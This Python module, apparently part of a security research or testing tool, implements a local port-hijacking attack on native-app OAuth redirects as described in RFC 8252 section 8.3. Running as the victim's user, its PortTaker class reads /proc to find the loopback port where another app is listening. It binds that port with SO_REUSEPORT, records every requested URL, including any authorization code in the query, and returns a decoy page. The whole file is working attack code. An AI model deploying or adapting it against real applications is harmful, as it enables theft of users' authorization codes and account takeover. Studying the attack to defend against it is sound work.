"""A process on the victim's device that listens where another app waits (RFC 8252 section 8.3).

It runs as the same user, so it may see in ``/proc`` at which port that is, and bind what is free.
"""

import asyncio
import socket
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

from attacker.redirect_handlers.page import DECOY

SIGN_OF_LIFE = "/sign-of-life"
"""What it asks itself for, to see that it would have been told of anything."""

_LISTENING = "0A"
_ANSWER = (
    f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(DECOY.encode())}\r\n"
    f"Connection: close\r\n\r\n{DECOY}"
)


class PortTaker:
    """``caught`` hears of every URL that somebody asks it for.

    ``seen`` is the port at which the app was last found waiting. With ``joins`` it listens there
    at once, if the operating system lets it. ``asked_for`` is the address, without its query, that
    somebody else asked for.
    """

    def __init__(self) -> None:
        self.caught: Callable[[str], None] = lambda url: None
        self.seen = 0
        self.joins = False
        self.taken = 0
        self.asked_for: str | None = None
        self._servers: list[asyncio.Server] = []

    async def look_at(self, process: int) -> None:
        """See where an app waits, by the number of its process."""
        self.seen = next(iter(listening_ports(process)), 0)
        if self.joins:
            await self.take(self.seen)

    async def take(self, port: int) -> None:
        """Listen there, on 127.0.0.1 alone, unless the operating system refuses."""
        listener = socket.socket()
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            listener.setsockopt(socket.SOL_SOCKET, option, 1)
        try:
            listener.bind(("127.0.0.1", port))
            self._servers.append(await asyncio.start_server(self._answer, sock=listener))
            self.taken = listener.getsockname()[1]
        except OSError:
            listener.close()

    async def call_itself(self) -> None:
        """Show that it is there and is heard: at the port that it has, or at any if it has none."""
        if not self._servers:
            await self.take(0)
        reader, writer = await asyncio.open_connection("127.0.0.1", self.taken)
        writer.write(f"GET {SIGN_OF_LIFE} HTTP/1.1\r\n\r\n".encode())
        await reader.read()
        writer.close()

    def close(self) -> None:
        """Give every port back."""
        for server in self._servers:
            server.close()

    async def _answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(ConnectionError, IndexError, ValueError):
            target = (await reader.readline()).decode("latin-1").split(" ")[1]
            url = f"http://127.0.0.1:{writer.get_extra_info('sockname')[1]}{target}"
            if target != SIGN_OF_LIFE:
                self.asked_for = url.partition("?")[0]
            self.caught(url)
            writer.write(_ANSWER.encode())
            await writer.drain()
        writer.close()


def listening_ports(process: int) -> list[int]:
    """The TCP ports of IPv4 at which a process listens, as every process of its user can see."""
    folder, own = Path(f"/proc/{process}"), set()
    for each in (folder / "fd").iterdir():
        with suppress(OSError):  # closed meanwhile
            own.add(str(each.readlink()))
    rows = [line.split() for line in (folder / "net" / "tcp").read_text().splitlines()[1:]]
    return [
        int(row[1].partition(":")[2], 16)
        for row in rows
        if row[3] == _LISTENING and f"socket:[{row[9]}]" in own
    ]
